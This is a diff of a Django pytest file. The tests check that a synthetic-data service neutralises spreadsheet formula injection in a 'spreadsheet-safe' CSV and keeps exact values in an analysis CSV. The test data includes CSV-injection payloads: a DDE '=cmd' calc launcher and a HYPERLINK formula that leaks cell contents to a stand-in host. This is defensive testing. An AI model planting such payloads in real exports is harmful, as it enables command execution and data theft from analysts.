@@ -16,6 +16,7 @@ import io
 import json
 import zipfile
 
+import pandas as pd
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 
@@ -182,16 +183,21 @@ def test_html_in_names_and_cells_is_escaped(world):
         assert "<script>alert" not in page and "<img src=x" not in page, url
 
 
-def test_formulas_in_cells_are_neutralised_in_the_synthetic_csv(world):
+def test_formulas_are_neutralised_in_the_spreadsheet_csv_and_kept_exact_in_the_analysis_csv(world):
     schema = json.loads(json.dumps(SMALL_SCHEMA))
     schema["columns"][1]["categories"] = ["=cmd|' /C calc'!A0", "@SUM(1)", "other"]
     text = HEADER + "".join(f"{30 + i},=cmd|' /C calc'!A0,100,x\n{40 + i},@SUM(1),200,y\n" for i in range(10))
     ds = make_dataset(world.owner, text=text, schema=schema)
     release = run_release(ds, world.owner, rows=40)
-    body = world.client(world.owner).get(f"/releases/{release.pk}/synthetic.csv")
-    content = b"".join(body.streaming_content).decode()
-    cities = {line.split(",")[1] for line in content.splitlines()[1:]}
-    assert not any(c.lstrip('"')[:1] in "=+-@" for c in cities), cities
+    client = world.client(world.owner)
+    safe = client.get(f"/releases/{release.pk}/synthetic-spreadsheet.csv").content.decode()
+    cities = {line.split(",")[1] for line in safe.splitlines()[1:]}
+    assert cities and not any(c.lstrip('"')[:1] in "=+-@" for c in cities), cities
+    assert all(c.lstrip('"').startswith("'") for c in cities if c != "other"), cities
+    body = client.get(f"/releases/{release.pk}/synthetic.csv")
+    exact = pd.read_csv(io.StringIO(b"".join(body.streaming_content).decode()), dtype=str)
+    assert set(exact["city"]) <= {"=cmd|' /C calc'!A0", "@SUM(1)", "other"}
+    assert set(exact["age"].str.lstrip("-").str.isdigit()) == {True}  # numbers untouched in both files
 
 
 def test_out_of_bound_numbers_are_clipped_to_the_declared_bounds(world):
@@ -661,8 +667,8 @@ def test_a_release_whose_memory_plan_exceeds_the_limit_is_refused_before_reserva
     assert "dpmerf would need about" in text
 
 
-def test_formulas_in_column_names_are_neutralised_in_the_header_and_the_manifest_keeps_true_names(world):
-    """Issue 16: '=HYPERLINK(...)' as a column name reached analysts verbatim in the header row."""
+def test_formulas_in_column_names_are_neutralised_in_the_spreadsheet_header_and_kept_in_the_analysis_csv(world):
+    """'=HYPERLINK(...)' as a column name: guarded in the spreadsheet-safe file, exact in the analysis file."""
     import csv as csv_module
 
     evil = '=HYPERLINK("http://x.example/?"&A2)'
@@ -673,9 +679,12 @@ def test_formulas_in_column_names_are_neutralised_in_the_header_and_the_manifest
         "".join(f"{30 + i},Paris,100,x\n" for i in range(10))
     ds = make_dataset(world.owner, text=text, schema=schema)
     release = run_release(ds, world.owner, rows=20)
+    body = world.client(world.owner).get(f"/releases/{release.pk}/synthetic-spreadsheet.csv")
+    header = next(csv_module.reader(io.StringIO(body.content.decode())))
+    assert header == ["'" + evil, "'@city", "income"]  # (excluded columns are not synthesized)
     body = world.client(world.owner).get(f"/releases/{release.pk}/synthetic.csv")
     header = next(csv_module.reader(io.StringIO(b"".join(body.streaming_content).decode())))
-    assert header == ["'" + evil, "'@city", "income"]  # (excluded columns are not synthesized)
+    assert header == [evil, "@city", "income"]
     manifest = world.client(world.owner).get(f"/api/releases/{release.pk}/manifest.json", **world.api(world.owner))
     assert [c["name"] for c in manifest.json()["schema"]["columns"]][:2] == [evil, "@city"]
 
